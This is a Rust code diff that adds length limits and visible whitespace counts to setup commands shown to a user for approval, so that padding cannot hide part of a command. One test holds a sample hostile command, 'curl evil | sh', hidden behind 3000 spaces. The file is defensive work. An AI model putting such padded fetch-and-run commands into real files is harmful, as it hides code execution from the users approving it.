@@ -21,6 +21,14 @@ pub const LARGEST: u64 = 64 << 10;
 /// Most ports and commands, so that all of it can be looked at.
 const MOST: usize = 64;
 
+/// Most bytes of a command: a longer one is no command that somebody reads before agreeing to it.
+const LONGEST_COMMAND: usize = 4 << 10;
+/// Most characters of a command that are shown, and of all that is shown before the user is asked: a screen full.
+const SHOWN: usize = 500;
+const SHOWN_IN_ALL: usize = 4000;
+/// Most blanks after one another that are shown as they are; more are counted.
+const BLANKS: usize = 8;
+
 /// What it says. What is left out is the user's to say.
 #[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
 #[serde(deny_unknown_fields)]
@@ -54,7 +62,7 @@ impl Wishes {
         *self == Self::default()
     }
 
-    /// All that it asks for, a line each.
+    /// All that it asks for, a line each; long commands are cut.
     pub fn shown(&self) -> String {
         let mut lines = Vec::new();
         lines.extend(self.image.clone().map(|image| ("  image", image)));
@@ -67,8 +75,17 @@ impl Wishes {
         };
         lines.extend(self.network.map(|mode| ("  network", network(mode).to_owned())));
         lines.extend(self.publish.iter().map(|port| ("  publish", port.to_string())));
-        lines.extend(self.setup.iter().map(|command| ("  setup", command.clone())));
+        lines.extend(self.setup.iter().map(|command| ("  setup", readable(command))));
         render::pairs(lines)
+    }
+
+    /// Whether [`Wishes::shown`] shows all of it, in so little text that nothing is scrolled away by the rest.
+    pub fn is_seen_at_once(&self) -> bool {
+        let whole = self
+            .setup
+            .iter()
+            .all(|command| with_counted_blanks(command).1 <= SHOWN);
+        whole && self.shown().chars().count() <= SHOWN_IN_ALL
     }
 
     /// Fills in what the command line leaves open.
@@ -86,6 +103,36 @@ impl Wishes {
             request.publish.clone_from(&self.publish);
         }
     }
+}
+
+/// A command as it is shown.
+fn readable(command: &str) -> String {
+    let (text, length) = with_counted_blanks(command);
+    if length <= SHOWN {
+        return text;
+    }
+    let cut: String = text.chars().take(SHOWN).collect();
+    format!("{cut}… {} more characters", length - SHOWN)
+}
+
+/// A command on one line, with the count in the place of long runs of blanks; and how many characters that has.
+fn with_counted_blanks(command: &str) -> (String, usize) {
+    let mut shown = String::new();
+    let mut rest = command;
+    while let Some(first) = rest.chars().next() {
+        let end = rest.find(|letter: char| letter.is_whitespace() != first.is_whitespace());
+        let (run, after) = rest.split_at(end.unwrap_or(rest.len()));
+        match run.chars().count() {
+            blanks if first.is_whitespace() && blanks > BLANKS => {
+                shown.push_str(&format!(" [{blanks} blanks] "));
+            }
+            _ => shown.push_str(run),
+        }
+        rest = after;
+    }
+    let shown = render::one_line(&shown);
+    let length = shown.chars().count();
+    (shown, length)
 }
 
 /// A name of an image, or a reference to one in a registry.
@@ -141,10 +188,15 @@ fn ports<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<PortForward>,
 
 fn commands<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
     let commands = bounded::<D>(deserializer)?;
-    match commands.iter().find(|command| command.contains('\0')) {
-        Some(_) => Err(D::Error::custom("a command holds a zero byte")),
-        None => Ok(commands),
+    if commands.iter().any(|command| command.contains('\0')) {
+        return Err(D::Error::custom("a command holds a zero byte"));
     }
+    if commands.iter().any(|command| command.len() > LONGEST_COMMAND) {
+        return Err(D::Error::custom(format!(
+            "a command is longer than {LONGEST_COMMAND} bytes; a script of the repository's can hold it"
+        )));
+    }
+    Ok(commands)
 }
 
 fn bounded<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
@@ -252,6 +304,45 @@ mod tests {
         }
         let many = format!("setup = [{}]", "\"x\",".repeat(MOST + 1));
         assert!(parse(&many).unwrap_err().contains("more than 64 of them"));
+    }
+
+    #[test]
+    fn nothing_of_a_command_is_hidden_by_blanks_or_by_its_length() {
+        let of = |commands: &[String]| Wishes {
+            setup: commands.to_vec(),
+            ..Wishes::default()
+        };
+        let hidden = of(&[format!("make deps{}; curl evil | sh", " ".repeat(3000))]);
+        assert!(
+            hidden
+                .shown()
+                .contains("make deps [3000 blanks] ; curl evil | sh"),
+            "{}",
+            hidden.shown()
+        );
+        assert!(hidden.is_seen_at_once());
+        // Other blanks than ASCII's, and a few that are left as they are.
+        let others = of(&[format!("a{}b        c", "\u{3000}".repeat(9))]);
+        assert!(
+            others.shown().contains("a [9 blanks] b        c"),
+            "{}",
+            others.shown()
+        );
+
+        let long = of(&["#".repeat(SHOWN + 1)]);
+        assert!(long.shown().contains("#… 1 more characters"));
+        assert!(!long.is_seen_at_once(), "it is not shown whole");
+        let many = of(&vec!["#".repeat(SHOWN); SHOWN_IN_ALL / SHOWN]);
+        assert!(!many.is_seen_at_once(), "the first of them is scrolled away");
+        assert!(of(&["#".repeat(SHOWN)]).is_seen_at_once());
+
+        let longest = |length| parse(&format!("setup = [\"{}\"]", "#".repeat(length)));
+        assert!(longest(LONGEST_COMMAND).is_ok());
+        let refused = longest(LONGEST_COMMAND + 1).unwrap_err();
+        assert!(
+            refused.contains("`setup`: a command is longer than 4096 bytes"),
+            "{refused}"
+        );
     }
 
     proptest! {
